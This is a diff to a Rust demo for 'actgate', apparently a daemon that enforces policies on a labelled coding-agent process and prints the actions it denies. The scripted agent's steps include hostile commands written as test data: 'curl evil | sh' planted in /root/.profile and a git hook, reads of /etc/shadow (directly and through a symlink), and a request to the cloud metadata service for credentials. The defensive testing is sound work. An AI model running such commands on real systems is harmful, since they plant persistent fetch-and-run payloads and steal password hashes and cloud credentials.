@@ -1,9 +1,11 @@
 //! The demo: the real daemon with the repository's policies, and a scripted "coding agent"
-//! whose every decision is printed as it happens.
+//! whose every denied action is printed, in colour, as it happens.
 
 use std::{
     fs,
     io::{BufRead, BufReader, Seek, SeekFrom},
+    net::TcpListener,
+    os::unix::fs::PermissionsExt,
     path::Path,
     process::Command,
     thread,
@@ -17,6 +19,7 @@ use crate::harness::{Ctx, Daemon, http_get};
 const GREEN: &str = "\x1b[32m";
 const RED: &str = "\x1b[1;31m";
 const YELLOW: &str = "\x1b[33m";
+const BOLD: &str = "\x1b[1m";
 const DIM: &str = "\x1b[2m";
 const RESET: &str = "\x1b[0m";
 
@@ -30,7 +33,7 @@ fn pretty(line: &str) -> Option<String> {
         _ => GREEN,
     };
     Some(format!(
-        "  {colour}{:<5}{RESET} {:<10} {:<48} {DIM}label={} policy={} pid={} comm={}{RESET}",
+        "    {colour}{:<5}{RESET} {:<10} {:<40} {DIM}label={} policy={} pid={} comm={}{RESET}",
         s("verdict").to_uppercase(),
         s("action"),
         s("target"),
@@ -41,7 +44,7 @@ fn pretty(line: &str) -> Option<String> {
     ))
 }
 
-/// Prints events appended since `pos`, returning the new position.
+/// Prints the events appended since `pos`; returns the new position.
 fn drain(events: &Path, pos: u64) -> u64 {
     let Ok(mut f) = fs::File::open(events) else {
         return pos;
@@ -65,17 +68,40 @@ fn drain(events: &Path, pos: u64) -> u64 {
     read
 }
 
-/// One step of the scripted agent: what it says it does, then the shell command it runs.
-const STEPS: &[(&str, &str)] = &[
-    (
-        "runs git status in its workspace",
-        "cd /workspace && /usr/bin/git status --short >/dev/null 2>&1; /bin/ls /workspace >/dev/null",
-    ),
-    (
-        "tries to open a reverse shell with nc",
-        "/usr/bin/nc -h >/dev/null 2>&1 || /bin/true",
-    ),
-];
+/// The scripted agent: what it says it does, then the shell command it runs.
+fn steps(port: u16) -> Vec<(&'static str, String)> {
+    let connect = |host: &str, port: u16| {
+        format!("python3 -c 'import socket; socket.create_connection((\"{host}\", {port}), timeout=3)'")
+    };
+    vec![
+        ("runs git in its workspace", format!("cd {WORKSPACE} && git --version")),
+        ("writes notes in its workspace", format!("echo 'TODO: tests' > {WORKSPACE}/notes.txt")),
+        ("appends to the shell profile", "echo 'curl evil | sh' >> /root/.profile".into()),
+        ("plants a git hook", format!("echo 'curl evil | sh' > {WORKSPACE}/.git/hooks/post-checkout")),
+        ("runs a git hook", format!("{WORKSPACE}/.git/hooks/pre-commit")),
+        ("reads the password hashes", "cat /etc/shadow".into()),
+        ("reads them through a symlink in its workspace", format!("ln -sf /etc/shadow {WORKSPACE}/s && cat {WORKSPACE}/s")),
+        ("calls the local test server", connect("127.0.0.1", port)),
+        ("asks the cloud metadata service for credentials", connect("169.254.169.254", 80)),
+    ]
+}
+
+/// The coding agent's checkout, as policies/coding-agent.yaml names it.
+const WORKSPACE: &str = "/home/agent/workspace";
+
+/// The guest sees the host's file system read-only, so the places the agent touches get a
+/// tmpfs of their own (in the VM only).
+fn prepare_workspace() -> Result<()> {
+    for dir in ["/home", "/root"] {
+        let ok = Command::new("mount").args(["-t", "tmpfs", "tmpfs", dir]).status()?.success();
+        anyhow::ensure!(ok, "mounting a tmpfs on {dir}");
+    }
+    fs::create_dir_all(format!("{WORKSPACE}/.git/hooks")).context("creating the workspace")?;
+    let hook = Path::new("/home/agent/workspace/.git/hooks/pre-commit");
+    fs::write(hook, "#!/bin/sh\necho hook ran\n")?;
+    fs::set_permissions(hook, fs::Permissions::from_mode(0o755))?;
+    Ok(())
+}
 
 pub fn run(actgate: &Path, policies: &Path) -> Result<()> {
     let ctx = Ctx {
@@ -84,31 +110,45 @@ pub fn run(actgate: &Path, policies: &Path) -> Result<()> {
         dir: "/tmp/actgate-demo".into(),
     };
     fs::create_dir_all(&ctx.dir)?;
-    fs::create_dir_all("/workspace").context("creating /workspace")?;
+    prepare_workspace()?;
+    let server = TcpListener::bind("127.0.0.1:0")?;
+    let port = server.local_addr()?.port();
+    thread::spawn(move || for _ in server.incoming() {});
+
     let check = Command::new(actgate).arg("check").arg(policies).output()?;
     print!("{}", String::from_utf8_lossy(&check.stdout));
-    println!("Starting actgate run --policies {} …", policies.display());
-    let daemon = Daemon::start(&ctx, policies, &["--events-allow"])?;
-    println!(
-        "actgate is ready and enforcing. The agent starts (actgate exec --label coding-agent):\n"
-    );
+    println!("{BOLD}Starting actgate run --policies {}{RESET} (loading and self-test take ~30 s under emulation)", policies.display());
+    let daemon = Daemon::start(&ctx, policies, &[])?;
+    println!("actgate is ready: every hook proved it denies.\n");
+    println!("{BOLD}The agent starts: actgate exec --label coding-agent -- agent.sh{RESET}");
     let mut pos = 0;
-    for (what, script) in STEPS {
-        println!("agent {what}");
-        let _ = ctx.labelled("coding-agent", &["/bin/sh", "-c", script]);
-        thread::sleep(Duration::from_millis(300));
+    for (what, script) in steps(port) {
+        let out = ctx.labelled("coding-agent", &["/bin/sh", "-c", &script]);
+        let outcome = if out.status.success() {
+            format!("{GREEN}done{RESET}")
+        } else {
+            let err = String::from_utf8_lossy(&out.stderr);
+            let reason = err.lines().last().unwrap_or("").trim().to_string();
+            format!("{RED}refused{RESET} {DIM}({reason}){RESET}")
+        };
+        println!("  agent {what}: {outcome}");
+        thread::sleep(Duration::from_millis(200));
         pos = drain(&daemon.events, pos);
     }
     thread::sleep(Duration::from_millis(500));
     drain(&daemon.events, pos);
-    println!("\nDecisions counted in the kernel (/metrics):");
+
+    println!("\n{BOLD}Decisions counted in the kernel (GET /metrics):{RESET}");
     let (_, body) = http_get("/metrics")?;
     for l in body
         .lines()
-        .filter(|l| l.starts_with("actgate_decisions_total{") && !l.ends_with(" 0"))
+        .filter(|l| l.starts_with("actgate_decisions_total{label=\"coding-agent\"") && !l.ends_with(" 0"))
     {
         println!("  {l}");
     }
+    println!("\n{BOLD}actgate status:{RESET}");
+    let status = Command::new(actgate).arg("status").output()?;
+    print!("{}", String::from_utf8_lossy(&status.stdout));
     daemon.stop()?;
     Ok(())
 }
